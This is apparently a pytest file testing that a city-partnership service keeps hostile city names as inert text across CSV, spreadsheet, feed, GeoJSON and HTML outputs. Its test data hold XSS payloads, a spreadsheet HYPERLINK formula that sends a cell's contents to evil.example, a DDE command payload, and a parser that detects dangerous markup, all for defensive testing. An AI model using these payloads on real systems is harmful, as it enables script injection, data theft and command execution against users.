"""Names of cities come from anywhere: what would be markup or a formula elsewhere stays a name in every form."""

import json
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from xml.etree import ElementTree

import httpx
import pytest

from tests.api.running import connect, make_service
from tests.api.serializers.readers import book, features, feed, get, lines, rows, sheet
from tests.store.smallregister import START, city, opened, partnership, source, take_in

pytestmark = [pytest.mark.anyio, pytest.mark.sqlite_only]
SCRIPT = '</title></script><script>alert("1")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"here")'
NAMES = {
    "first": (SCRIPT, FORMULA),
    "second": ("@SUM(1+1)*cmd|' /C calc'!A0", "]]><!-- & {{7*7}} ${7*7}"),
    "third": ("+1 \"onmouseover='x' style=\"", "-2+3"),
}
"""The names of the two cities of each partnership."""
IDS = {f"{name}a-nl--{name}b-cn": pair for name, pair in NAMES.items()}
FORMULAS = ("=", "+", "-", "@", "\t", "\r")
ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
async def client(migrated_url: str) -> AsyncIterator[httpx.AsyncClient]:
    """A client of a service whose register holds these names, on each kind of database."""
    with opened(migrated_url) as engine:
        records = [source("paper", title=SCRIPT, publisher=FORMULA)]
        sides = [(f"{name}{side}", text) for name, pair in NAMES.items() for side, text in zip("ab", pair, strict=True)]
        cities = [
            city(f"{id_}-{'nl' if id_.endswith('a') else 'cn'}", name=text, latitude=-1.5, longitude=-2.5,
                 coordinate_source="geonames", names=[{"name": text[::-1], "language": "de"}])
            for id_, text in sides
        ]  # fmt: skip
        pairs = [partnership(id_, "severed decided 2021-07-21 side=a", native_label=FORMULA) for id_ in IDS]
        take_in(engine, *records, *cities, *pairs, now=START)
    service = make_service(migrated_url)
    async with connect(service) as made:
        yield made
    service.state.register.close()


class Page(HTMLParser):
    """What a browser makes of a page: its elements with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element begins."""
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Text."""
        self.text += data

    def dangers(self) -> list[str]:
        """What would act: scripts of this page, what listens, and addresses that are programs."""
        return [
            f"{tag} {attributes}"
            for tag, attributes in self.elements
            if (tag == "script" and not {"src", "type"} & set(attributes))
            or tag in ("img", "iframe", "object", "base")
            or any(name.startswith("on") or name == "style" for name in attributes)
            or (attributes.get("href") or "").lower().startswith(("javascript:", "data:text"))
        ]


async def test_a_table_holds_names_as_they_are_and_one_for_spreadsheets_disarms_them(client: httpx.AsyncClient) -> None:
    for noun, key in (("partnerships", "id"), ("events", "partnership")):
        plain = rows((await get(client, f"/v1/{noun}.csv")).content)
        safe = rows((await get(client, f"/v1/{noun}.csv", "for=spreadsheet")).content)
        assert {row[key]: (row["city_a_name"], row["city_b_name"]) for row in plain} == IDS
        disarmed = {id_: tuple(f"'{name}" if name[0] in FORMULAS else name for name in IDS[id_]) for id_ in IDS}
        assert {row[key]: (row["city_a_name"], row["city_b_name"]) for row in safe} == disarmed
        cells = [cell for row in safe for cell in row.values() if cell.startswith(FORMULAS)]
        assert {*map(float, cells)} <= {-1.5, -2.5}


async def test_a_workbook_holds_names_as_text(client: httpx.AsyncClient) -> None:
    content = (await get(client, "/v1/partnerships.xlsx")).content
    found = {row["id"]: (row["city_a_name"], row["city_b_name"]) for row in sheet(content, "partnerships")}
    assert found == IDS
    cells = [cell for one in book(content) for line in one.iter_rows() for cell in line]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if cell.hyperlink and "evil" in str(cell.hyperlink.target)]


@pytest.mark.parametrize("noun", ["partnerships", "events"])
async def test_a_feed_holds_names_as_text(client: httpx.AsyncClient, noun: str) -> None:
    content = (await get(client, f"/v1/{noun}.atom")).content
    entries = ElementTree.fromstring(content).findall(f"{ATOM}entry")
    items = json.loads((await get(client, f"/v1/{noun}.jsonfeed")).content)["items"]
    assert len(entries) == len(items) == len(feed(content).entries) == 3
    texts = [("".join(entry.find(f"{ATOM}title").itertext()), entry.findtext(f"{ATOM}content")) for entry in entries]  # type: ignore[union-attr]
    texts += [(item["title"], item["content_html"]) for item in items]
    for name in (name for pair in IDS.values() for name in pair):
        assert sum(name in title for title, _ in texts) == 2
    assert all(SCRIPT in Page(html or "").text for _, html in texts)  # The title of what they rest on.
    assert [danger for _, html in texts for danger in Page(html or "").dangers()] == []


async def test_data_hold_names_as_they_are(client: httpx.AsyncClient) -> None:
    for query in ("", "geometry=points"):
        answer = await get(client, "/v1/partnerships.geojson", query)
        assert answer.headers["x-content-type-options"] == "nosniff"
        found = json.dumps([feature["properties"] for feature in features(answer.content)])
        assert all(json.dumps(name)[1:-1] in found for pair in IDS.values() for name in pair)
    record = (await get(client, "/v1/partnerships.ndjson")).content
    assert {one["id"]: tuple(side["name"] for side in one["cities"]) for one in lines(record)} == IDS
    for style in ("csl", "bibtex", "ris", "text"):
        for id_ in IDS:
            assert (await get(client, "/v1/cite", f"url=/v1/partnerships/{id_}&style={style}")).content


@pytest.mark.parametrize("name", [name for pair in IDS.values() for name in pair])
async def test_a_name_is_found_by_itself(client: httpx.AsyncClient, name: str) -> None:
    answer = await client.get("/v1/cities", params={"q": name})
    assert name in [one["name"] for one in answer.json()["data"]]


async def test_pages_hold_names_as_text(client: httpx.AsyncClient) -> None:
    queries = ["", "view=table", "embed=1", "q=script", *(f"record={id_}" for id_ in IDS)]
    queries += [f"city={side}" for id_ in IDS for side in id_.split("--")]
    for query in queries:
        page = Page((await get(client, "/", query)).text)
        assert page.dangers() == [], query
    paths = ["/de/", "/partnerships", "/cities", "/countries/NL", "/sources/paper", "/changes", "/chart", "/compare"]
    paths += [f"/partnerships/{id_}" for id_ in IDS]
    paths += [f"/cities/{side}" for id_ in IDS for side in id_.split("--")]
    for path in paths:
        page = Page((await get(client, path)).text)
        assert page.dangers() == [], path
    for id_, pair in IDS.items():
        record, front = [Page((await get(client, "/", query)).text).text for query in (f"record={id_}", "")]
        assert all(name in record for name in (*pair, SCRIPT)), id_
        assert all(name in front for name in pair)
